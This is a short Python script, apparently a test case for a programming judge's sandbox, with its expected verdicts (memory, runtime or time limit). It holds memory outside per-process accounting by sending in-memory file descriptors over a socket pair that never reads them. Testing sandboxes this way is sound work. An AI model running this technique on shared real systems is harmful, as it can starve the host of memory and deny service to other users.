# attack: files in memory, sent to itself and never received, so that no process has them
# verdict: MLE RTE TLE
# On a busy machine the kernel may look for memory to free until the time is up.
import os
import socket
import time

one, other = socket.socketpair()
for number in range(30):
    file = os.memfd_create("x")
    for _ in range(8):
        os.write(file, bytes(1 << 20))
    socket.send_fds(one, [b"x"], [file])
    os.close(file)
time.sleep(0.3)
